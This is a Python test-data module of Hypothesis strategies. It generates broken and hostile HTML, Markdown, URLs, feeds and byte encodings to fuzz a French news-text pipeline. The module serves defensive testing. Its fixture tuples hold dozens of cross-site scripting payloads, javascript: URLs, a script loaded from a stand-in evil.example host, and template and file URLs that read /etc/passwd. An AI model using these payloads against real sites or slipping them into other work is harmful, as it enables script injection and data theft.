"""Strategies for what no well-meaning newsroom sends: broken and malicious text, HTML, Markdown,
feeds and bytes."""

from __future__ import annotations

from collections.abc import Sequence

from hypothesis import strategies as st

SENTENCES = (
    "Le conseil a voté mardi un budget de 12,5 millions d’euros pour les écoles de la ville.",
    "« Nous n’avions plus le choix », a répondu la maire devant la presse.",
    "Les travaux du pont dureront quatre ans, de 2025 à 2029.",
    "Trois musées seront gratuits le dimanche.",
    "Le prix du blé a reculé de 12 % en un an.",
    "Qui paiera la ligne de fret ?",
)
# What browsers, or old ones, or sanitisers that were fooled, have run as code.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)",
    "<script type=text/template>{{x}}</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp></xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>ok</form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p style='width:expression(alert(1));background:url(javascript:alert(1))'>",
    "<style>@import '//evil.example/x.css';*{behavior:url(x.htc)}</style>",
    "</style><script>alert(1)</script><style>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "\"><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "&ltscript&gtalert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</script>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a><a href='data:text/html,<script>alert(1)</script>'>y</a>",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "https://ok.example/\njavascript:alert(1)",
    'https://ok.example/" onmouseover="alert(1)',
    "https://ok.example/')+alert(1)+('",
    "https://ok.example\\@evil.example/",
    "https://user:word@evil.example/",
    "http://[::1",
    "http://[::1%25lo]/",
    "http:///",
    "http://exemple.example:99999/",
    "http://exemple.example:x/",
    "https://ok.example/a(b)c[d]<e>|f`g",
    "https://ok.example/{{7*7}}{%25 x %25}*|X|*",
    "https://пример.example/é?ü#ñ",
    "https://ok.example/" + "a/" * 400,
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "blob:https://ok.example/1",
    "https:ok.example",
    "https://ok.example/\u202egpj.exe",
    "https://ok.exam\u200bple/",
    "HTTPS://OK.EXAMPLE/",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](  java&#115;cript:alert(1) "t")',
    "[x]: javascript:alert(1)\n\n[x]",
    "[a][b]\n[b]: data:text/html,x 'y'",
    '![x](x" onerror="alert(1))',
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://ok.example/"onclick=alert(1)>',
    "[x](https://ok.example 'a\"b' onclick=alert(1))",
    "[" * 30 + "x" + "](javascript:alert(1))" * 3,
    "`</code><script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n</pre><script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script> #",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | b |",
    "> <script>\n> alert(1)\n> </script>",
    "* <b onclick=alert(1)>x</b>",
    "\\<script>alert(1)\\</script>",
    "\\[x\\](javascript:alert(1))",
    "<div markdown=1 onclick=alert(1)>*x*</div>",
    "x {: onclick=alert(1) }",
    "*[HTML]: <script>alert(1)</script>",
    "[^1]: <script>alert(1)</script>",
    "***" * 20,
    "_" * 40 + "x" + "*" * 40,
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{< shortcode >}}{{% /shortcode %}}",
    "{# x #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "*|UNSUB|*",
    "[[trackingpixel]]%%unsubscribe%%",
    "%s %(x)s {0} {x!r}",
    "\ufdd0\ufdd1\ufdd7",
    "klzzwxh:0 \x02klzzwxh:1\x03",
    "---\ntitle: x\n---",
)
ODDITIES = (
    "\x00",
    "\x1b[31m",
    "\x07\x08\x7f\x85\x9f",
    "\ud800",
    "\udfff\ud83d",
    "\ufeff",
    "\ufffe\uffff",
    "\U0010ffff",
    "\u202e12,5\u202c",
    "\u2066\u2067\u2068",
    "\u200b\u200c\u200d\u2060",
    "\u00ad",
    "\u2028\u2029",
    "\u3164\u115f",
    "e" + "\u0301" * 60,
    "\u1e9b\u0323ﬁ",
    "٣٫٥ १२ ⅷ ½ ①",
    "𝟏𝟐 𝒶𝓫 🅰 👩🏽\u200d🚀",
    "İıſK",
    "9" * 400,
    "1.000.000,000.1",
    "-0 00 1e400 0x7f",
    "«" * 20 + "»",
    "((((((((((" * 5,
    "M. Mme Dr. etc. J.-C. p. ex. " * 3,
    "?!…‽" * 15,
    "a" * 600,
    "mot " * 150,
    "A-" * 80,
    "\r\r\n\n\x0b\x0c",
    "\t \u00a0\u202f\u2009",
)
FRAGMENTS = (*SCRIPTS, *ADDRESSES, *MARKDOWN, *TEMPLATES, *ODDITIES)

# Text as any stage may be given it: lone surrogates too, because JSON and callers from Python can
# bring them.
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=30)
PIECE = st.one_of(st.sampled_from(FRAGMENTS), st.sampled_from(SENTENCES), ANY_TEXT)
TEXT = st.lists(PIECE, min_size=1, max_size=5).flatmap(
    lambda pieces: st.sampled_from(("", " ", "\n", "\n\n")).map(lambda joint: joint.join(pieces))
)
ADDRESS = st.one_of(
    st.sampled_from(ADDRESSES),
    st.tuples(st.sampled_from(("http://", "https://", "javascript:", "//", "")), ANY_TEXT).map(
        "".join
    ),
)

_TAGS = st.sampled_from(
    ["p", "div", "span", "a", "b", "i", "h1", "h2", "h6", "ul", "li", "table", "tr", "td", "th",
     "thead", "br", "hr", "img", "blockquote", "article", "section", "main", "aside", "nav",
     "header", "footer", "figure", "figcaption", "form", "button", "select", "option", "textarea",
     "title", "head", "body", "html", "script", "style", "noscript", "template", "svg", "math",
     "mtext", "mglyph", "foreignObject", "desc", "annotation-xml", "iframe", "object", "frameset",
     "plaintext", "xmp", "marquee", "pre", "code", "details", "summary", "dialog", "time", "x-y",
     "a:b", "o:p", "image", "isindex"]
)  # fmt: skip
_VALUES = st.sampled_from(
    ('""', "''", '"x"', "x", "'", '"', '"a>b"', "'<p>'", "`x`", "&quot;", "javascript:alert(1)",
     "display:none",
     '"related comments caption"', '"a\nb"', '"\x00"', "=", '"' + "v" * 300 + '"')
)  # fmt: skip
_ATTRIBUTE = st.tuples(
    st.sampled_from(
        [
            "class",
            "id",
            "href",
            "src",
            "style",
            "onclick",
            "onerror",
            "hidden",
            "aria-hidden",
            "lang",
            "datetime",
            "property",
            "name",
            "content",
            "charset",
            "http-equiv",
            "xmlns",
            "xlink:href",
            "srcdoc",
            "=",
            "/",
            "<",
            '"',
            "'",
            "é",
        ]
    ),
    st.sampled_from(("", "=", " = ", "==")),
    _VALUES,
).map("".join)
_OPENING = st.tuples(
    st.sampled_from(("<", "<", "<", "</", "< ", "<!", "<?")),
    _TAGS,
    st.lists(_ATTRIBUTE, max_size=3).map(lambda found: "".join(f" {each}" for each in found)),
    st.sampled_from((">", ">", ">", "/>", "", " ", ">\n", "-->", "]]>")),
).map("".join)
_CLOSING = _TAGS.map(lambda tag: f"</{tag}>")
_REPEATED = st.tuples(
    st.sampled_from(("<div>", "<b>", "<p>x", "<table><td>", "<ul><li>", "<a href=x>", "</div>",
    "<!--", "<svg>")),
    st.integers(2, 60),
).map(lambda pair: pair[0] * pair[1])  # fmt: skip
_PARAGRAPH = st.sampled_from(SENTENCES).map(lambda text: f"<p>{text}</p>")
MARKUP = st.lists(
    st.one_of(_OPENING, _OPENING, _CLOSING, _PARAGRAPH, _PARAGRAPH, PIECE, _REPEATED), max_size=14
).map("".join)

PAGE = (
    '<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Le pont rouvre - Le '
    'Fil</title>'
    '<meta property="og:title" content="Le pont rouvre"><meta name="author" content="Ada Martin">'
    '<meta property="article:published_time" content="2025-03-04T18:30:00+01:00">'
    '<link rel="canonical" href="https://fil.example/pont"><script>var a = "</p>";</script></head>'
    '<body>'
    '<nav><ul><li><a href="/">Accueil</a><li><a href="/une">À la une</a></ul></nav><article><h1>Le '
    'pont rouvre</h1>'
    f'<p class="chapo">{SENTENCES[2]}</p><figure><img src="p.jpg" alt="Le pont"><figcaption>Le '
    'pont. © AFP</figcaption>'
    f"</figure><p>{SENTENCES[0]} {SENTENCES[1]}</p><h2>Une ligne à "
    f"l’abandon</h2><p>{SENTENCES[4]}<br>{SENTENCES[5]}"
    f'</p><ul><li>{SENTENCES[3]}</ul></article><aside class="related"><a href="/x">Lire aussi</a>'
    '</aside>'
    "<footer>Tous droits réservés</footer></body></html>"
)  # fmt: skip
RSS = (
    '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/">'
    "<channel><title>Le Fil</title><link>https://fil.example/</link><item><title>Le pont "
    "rouvre</title>"
    "<link>https://fil.example/pont</link><pubDate>Tue, 04 Mar 2025 18:30:00 "
    "+0100</pubDate><author>Ada Martin</author>"
    f"<description>{SENTENCES[3]}</description><content:encoded><![CDATA[<p>{SENTENCES[0]}</p>"
    f"<p>{SENTENCES[2]}</p>]]>"
    "</content:encoded></item></channel></rss>"
)  # fmt: skip
ATOM = (
    '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Le Fil</title>'
    '<id>urn:x</id><entry>'
    '<title type="html">Le &lt;b&gt;pont&lt;/b&gt; rouvre</title><link '
    'href="https://fil.example/pont"/>'
    "<updated>2025-03-04T18:30:00Z</updated><content type=\"xhtml\"><div "
    "xmlns=\"http://www.w3.org/1999/xhtml\">"
    f"<p>{SENTENCES[0]}</p><p>{SENTENCES[1]}</p></div></content></entry></feed>"
)  # fmt: skip
NOTE = (
    "---\ntitle: Le pont rouvre\nauthor: Ada Martin\ndate: 2025-03-04\nurl: "
    "https://fil.example/pont\n---\n\n"
    f"# Le pont rouvre\n\n**{SENTENCES[2]}**\n\n{SENTENCES[0]} "
    f"[{SENTENCES[3]}](https://fil.example/a \"b\")\n\n"
    f"## Une ligne à l’abandon\n\n> {SENTENCES[1]}\n\n- {SENTENCES[4]}\n\n![Le pont](p.jpg)\n"
)  # fmt: skip
PASTE = "\n".join(
    ("Accueil", "Partager", "Le pont rouvre", "Par Ada Martin", "Publié le 4 mars 2025", "",
     *SENTENCES, "Lire aussi")
)  # fmt: skip


@st.composite
def mutated(draw: st.DrawFn, document: str, extra: Sequence[str] = FRAGMENTS) -> str:
    """The document after one to six accidents: cut, repeated, put elsewhere, overwritten or with a
    fragment in it."""
    for _ in range(draw(st.integers(1, 6))):
        start = draw(st.integers(0, len(document)))
        end = min(len(document), start + draw(st.integers(0, 80)))
        accident = draw(
            st.sampled_from(("insert", "insert", "replace", "cut", "repeat", "end", "swap"))
        )
        piece = draw(st.sampled_from(extra)) if accident in ("insert", "replace") else ""
        if accident == "insert":
            document = document[:start] + piece + document[start:]
        elif accident in ("replace", "cut"):
            document = document[:start] + piece + document[end:]
        elif accident == "repeat":
            document = (
                document[:end] + document[start:end] * draw(st.integers(1, 9)) + document[end:]
            )
        elif accident == "end":
            document = document[:end]
        else:
            document = document[end:] + document[start:end] + document[:start]
    return document


ENCODINGS = (
    "utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252",
    "iso8859-15", "utf-7", "shift_jis", "cp037", "mac_roman",
)  # fmt: skip


@st.composite
def encoded(draw: st.DrawFn, texts: st.SearchStrategy[str]) -> bytes:
    """The text in some encoding, fitting or not, sometimes with a few bytes damaged."""
    data = draw(texts).encode(draw(st.sampled_from(ENCODINGS)), "replace")
    for _ in range(draw(st.integers(0, 2)) * draw(st.integers(0, 1))):
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(max_size=3)) + data[at + draw(st.integers(0, 2)) :]
    return data


PAGES = st.one_of(mutated(PAGE), MARKUP, MARKUP.map(lambda inner: f"<!doctype html><body>{inner}"))
FEEDS = st.one_of(
    mutated(RSS), mutated(ATOM), MARKUP.map(lambda inner: RSS.replace(SENTENCES[0], inner, 1))
)
TEXTS = st.one_of(mutated(PASTE), mutated(NOTE), TEXT)
